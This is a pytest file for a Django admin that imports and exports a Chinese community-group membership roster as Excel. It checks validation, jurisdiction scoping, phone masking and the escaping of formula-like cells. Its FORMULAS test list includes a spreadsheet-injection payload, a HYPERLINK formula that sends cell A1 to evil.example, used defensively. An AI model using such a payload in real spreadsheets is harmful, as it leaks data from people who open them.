"""Roster import from and export to Excel, through the admin: good, bad and repeated files, scoped exports."""

from __future__ import annotations

import datetime
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from members.models import Membership, MembershipRole, Person, Stratum

pytestmark = pytest.mark.django_db

HEADERS = [
    "姓名",
    "性别",
    "手机号",
    "社会阶层",
    "职业",
    "行业",
    "专长",
    "政治面貌",
    "代表人士",
    "所在区域",
    "组织",
    "职务",
    "入会日期",
    "退出日期",
]
ROSTER_FIELDS = [
    "name",
    "gender",
    "phone",
    "stratum",
    "occupation",
    "industry",
    "skills",
    "political_affiliation",
    "is_representative",
    "region",
    "organization",
    "role",
    "joined_on",
    "left_on",
]
IMPORT_URL = reverse("admin:members_membership_import")
PROCESS_URL = reverse("admin:members_membership_process_import")


def xlsx(rows: list[list[object]]) -> SimpleUploadedFile:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile(
        "名册.xlsx",
        buffer.getvalue(),
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )


GOOD_ROWS: list[list[object]] = [
    # The craftsman is known by phone: the sheet makes him 会长 and adds his skills.
    [
        "张竹青",
        "男",
        "13800001111",
        "自由职业人员",
        "竹编手工艺者",
        "手工艺",
        "竹编",
        "群众",
        "是",
        "青山村",
        "青山同心荟",
        "会长",
        datetime.date(2019, 2, 28),
        None,
    ],
    [
        "林画",
        "女",
        "13700005555",
        "新媒体从业人员",
        "漫画家",
        "文创",
        "插画",
        "中共党员",
        "否",
        "青山村",
        "青山同心荟",
        "会员",
        "2020/3/1",
        None,
    ],
    # No phone: known by name and place from now on.
    [
        "Anna",
        "女",
        "",
        "外籍观察员",
        "设计师",
        "",
        "",
        "",
        "否",
        "青山村",
        "青山同心荟",
        "观察员",
        "2021-06-01",
        "2023-06-30",
    ],
]


def upload(client, rows):
    """Step one of the admin import: upload, dry run, and the page with the result."""
    return client.post(IMPORT_URL, {"format": 0, "resource": 0, "import_file": xlsx(rows)})


def confirm(client, preview):
    form = preview.context["confirm_form"]
    return client.post(PROCESS_URL, {**form.initial, "format": 0, "resource": 0})


def import_file(client, rows):
    preview = upload(client, rows)
    assert preview.status_code == 200
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), result.invalid_rows
    return confirm(client, preview)


def counts() -> tuple[int, ...]:
    return (
        Person.objects.count(),
        Membership.objects.count(),
        Person.history.count(),
        Membership.history.count(),
    )


def test_a_good_file_adds_and_updates_the_roster(client, craftsman_in_qingshan, town_staff_huanghu):
    client.force_login(town_staff_huanghu)
    response = import_file(client, GOOD_ROWS)
    assert response.status_code == 302

    craftsman = Person.objects.get(phone="13800001111")
    assert craftsman.pk == craftsman_in_qingshan.pk
    assert craftsman.skills == "竹编"
    assert craftsman.is_representative
    assert craftsman.memberships.get().role == MembershipRole.PRESIDENT
    painter = Person.objects.get(phone="13700005555")
    assert painter.stratum == Stratum.NEW_MEDIA
    assert painter.memberships.get().joined_on == datetime.date(2020, 3, 1)
    anna = Person.objects.get(name="Anna")
    assert anna.stratum == Stratum.FOREIGN_OBSERVER
    assert anna.memberships.get().left_on == datetime.date(2023, 6, 30)
    assert Person.objects.count() == 3
    assert painter.history.first().history_user == town_staff_huanghu


def test_a_bad_file_names_each_bad_row_and_saves_nothing(
    client, craftsman_in_qingshan, tianmu_alliance, town_staff_huanghu
):
    client.force_login(town_staff_huanghu)
    before = counts()
    rows = [
        *GOOD_ROWS[:2],
        [
            "王木",
            "男",
            "13700006666",
            "自由职业者",
            "木匠",
            "",
            "",
            "",
            "否",
            "青山村",
            "青山同心荟",
            "会员",
            "2022-01-01",
            None,
        ],
        [
            "吴远",
            "男",
            "13700007777",
            "自由职业人员",
            "设计师",
            "",
            "",
            "",
            "否",
            "青山村",
            "天目共富联盟（望湖村）",
            "会员",
            "2022-01-01",
            None,
        ],
    ]
    preview = upload(client, rows)
    result = preview.context["result"]
    assert "confirm_form" not in preview.context
    errors = {row.number: row.field_specific_errors for row in result.invalid_rows}
    # Numbered as Excel shows them: the header is row 1, so the third and fourth people are rows 4 and 5.
    assert set(errors) == {4, 5}
    assert "“自由职业者”不是有效的社会阶层" in errors[4]["社会阶层"][0]
    assert "组织“天目共富联盟（望湖村）”不存在或不在您的管辖范围内" in errors[5]["组织"][0]
    page = preview.content.decode()
    assert "自由职业者" in page and "不在您的管辖范围内" in page
    assert counts() == before
    assert Person.objects.get(phone="13800001111").skills == ""


def test_a_bad_file_saves_nothing_even_without_the_admins_dry_run(craftsman_in_qingshan, town_staff_huanghu):
    import tablib

    from members.resources import RosterResource

    before = counts()
    rows = [[cell.isoformat() if isinstance(cell, datetime.date) else cell for cell in row] for row in GOOD_ROWS]
    rows.append(
        [
            "王木",
            "男",
            "13700006666",
            "自由职业人员",
            "木匠",
            "",
            "",
            "",
            "否",
            "临安区",
            "青山同心荟",
            "会员",
            "2022-01-01",
            None,
        ]
    )
    result = RosterResource(user=town_staff_huanghu).import_data(tablib.Dataset(*rows, headers=HEADERS))
    assert [row.number for row in result.invalid_rows] == [5]
    assert "区域“临安区”不存在或不在您的管辖范围内" in result.invalid_rows[0].field_specific_errors["所在区域"][0]
    assert counts() == before


def test_importing_the_same_file_again_changes_nothing(client, craftsman_in_qingshan, town_staff_huanghu):
    client.force_login(town_staff_huanghu)
    import_file(client, GOOD_ROWS)
    after_first = counts()
    preview = upload(client, GOOD_ROWS)
    assert preview.context["result"].totals["skip"] == 3
    import_file(client, GOOD_ROWS)
    assert counts() == after_first


def _exported_rows(client) -> list[dict[str, object]]:
    response = client.post(
        reverse("admin:members_membership_export"),
        {
            "format": 0,
            "resource": 0,
            **{f"rosterresource_{name}": "on" for name in ROSTER_FIELDS},
        },
    )
    assert response.status_code == 200, response.content[:500]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = list(sheet.values)
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_export_holds_only_the_rows_in_scope_with_chinese_labels(
    client, craftsman_in_qingshan, designer_in_wanghu, district_admin_yuhang
):
    client.force_login(district_admin_yuhang)
    rows = _exported_rows(client)
    assert [row["姓名"] for row in rows] == ["张竹青"]
    assert rows[0]["社会阶层"] == "自由职业人员"
    assert rows[0]["职务"] == "会员"
    assert rows[0]["所在区域"] == "青山村"
    assert rows[0]["手机号"] == "13800001111"


def test_export_masks_phones_for_town_staff(client, craftsman_in_qingshan, town_staff_huanghu):
    client.force_login(town_staff_huanghu)
    rows = _exported_rows(client)
    assert [row["手机号"] for row in rows] == ["138****1111"]


def test_an_export_imports_back_without_changes(client, craftsman_in_qingshan, town_staff_huanghu):
    client.force_login(town_staff_huanghu)
    rows = _exported_rows(client)
    assert list(rows[0]) == HEADERS
    before = counts()
    import_file(client, [[row.get(header) for header in HEADERS] for row in rows])
    assert counts() == before


# ---- the sheet is refused by the same rules as the pages ---------------------------------------------------


def _row(name, phone, *, organization="青山同心荟", joined_on="2022-01-01", left_on=None, region="青山村"):
    return [
        name,
        "男",
        phone,
        "自由职业人员",
        "木匠",
        "",
        "",
        "",
        "否",
        region,
        organization,
        "会员",
        joined_on,
        left_on,
    ]


def _refusals(client, rows) -> dict[int, dict[str, list[str]]]:
    preview = upload(client, rows)
    assert "confirm_form" not in preview.context
    result = preview.context["result"]
    return {row.number: row.field_specific_errors for row in result.invalid_rows}


@pytest.mark.any_hour
def test_a_sheet_with_a_joining_or_leaving_date_in_the_future_saves_nothing(
    client, craftsman_in_qingshan, town_staff_huanghu
):
    client.force_login(town_staff_huanghu)
    before = counts()
    tomorrow = (timezone.localdate() + datetime.timedelta(days=1)).isoformat()
    errors = _refusals(
        client,
        [
            GOOD_ROWS[1],
            _row("王木", "13700006666", joined_on=tomorrow),
            _row("吴远", "13700007777", joined_on="2022-01-01", left_on=tomorrow),
        ],
    )
    assert errors == {3: {"入会日期": ["入会日期不能晚于今天。"]}, 4: {"退出日期": ["退出日期不能晚于今天。"]}}
    assert counts() == before


def test_a_sheet_with_overlapping_memberships_saves_nothing(client, craftsman_in_qingshan, town_staff_huanghu):
    client.force_login(town_staff_huanghu)
    before = counts()
    errors = _refusals(
        client,
        [
            # 张竹青 is a member since 2019-02-28: a span of 2018–2020 overlaps it.
            _row("张竹青", "13800001111", joined_on="2018-01-01", left_on="2020-01-01"),
            # The same new person twice in one organization, the second span inside the first.
            _row("王木", "13700006666", joined_on="2015-01-01", left_on="2021-01-01"),
            _row("王木", "13700006666", joined_on="2016-01-01", left_on="2017-01-01"),
        ],
    )
    assert set(errors) == {2, 4}
    assert "与 2019-02-28 起至今的会籍重叠" in errors[2]["入会日期"][0]
    assert "与 2015-01-01 至 2021-01-01 的会籍重叠" in errors[4]["入会日期"][0]
    assert counts() == before


def test_a_sheet_cannot_open_a_second_current_membership(client, craftsman_in_qingshan, town_staff_huanghu):
    client.force_login(town_staff_huanghu)
    errors = _refusals(client, [_row("张竹青", "13800001111", joined_on="2023-01-01")])
    assert "已是青山同心荟的在册会员" in errors[2]["组织"][0]
    assert craftsman_in_qingshan.memberships.count() == 1


def test_a_phone_held_outside_the_importers_area_is_answered_without_saying_so(
    client, craftsman_in_qingshan, designer_in_wanghu, town_staff_huanghu
):
    """Probe 13 in the import: the same words as the pages and the admin, nothing about where."""
    client.force_login(town_staff_huanghu)
    before = counts()
    errors = _refusals(client, [GOOD_ROWS[1], _row("吴设计", "13900002222")])
    assert errors == {
        3: {"手机号": ["这个手机号不能在此登记。请先与本人核对号码；号码无误的，请联系区委统战部核实后办理。"]}
    }
    assert counts() == before


def test_a_good_file_is_written_by_the_importer_through_the_roster_services(
    client, craftsman_in_qingshan, town_staff_huanghu
):
    client.force_login(town_staff_huanghu)
    import_file(client, GOOD_ROWS)
    craftsman = Person.objects.get(pk=craftsman_in_qingshan.pk)
    assert craftsman.history.first().history_user == town_staff_huanghu
    anna = Membership.objects.get(person__name="Anna")
    assert anna.history.get().history_user == town_staff_huanghu


# ---- formulas in exported cells (probe 10) ------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "+86-138",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_names_that_look_like_formulas_are_exported_as_text(client, qingshan_tongxinhui, district_admin_yuhang, enrol):
    for index, name in enumerate(FORMULAS):
        enrol(qingshan_tongxinhui, name=name, occupation="=1+1" if index == 0 else "")
    client.force_login(district_admin_yuhang)
    response = client.post(
        reverse("admin:members_membership_export"),
        {"format": 0, "resource": 0, **{f"rosterresource_{name}": "on" for name in ROSTER_FIELDS}},
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells), [cell.value for cell in cells if cell.data_type == "f"]
    names = sorted(row[0].value for row in sheet.iter_rows(min_row=2))
    # The sheet's XML keeps a carriage return as a line feed.
    assert names == sorted("'" + name.replace("\r", "\n") for name in FORMULAS)
    assert not any(str(cell.value or "").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_an_escaped_export_imports_back_without_changes(client, qingshan_tongxinhui, town_staff_huanghu, enrol):
    enrol(qingshan_tongxinhui, name="=HYPERLINK(1)", occupation="-竹编")
    client.force_login(town_staff_huanghu)
    rows = _exported_rows(client)
    assert rows[0]["姓名"] == "'=HYPERLINK(1)"
    before = counts()
    preview = upload(client, [[row.get(header) for header in HEADERS] for row in rows])
    assert preview.context["result"].totals["skip"] == 1
    assert counts() == before
    assert Person.objects.get().name == "=HYPERLINK(1)"
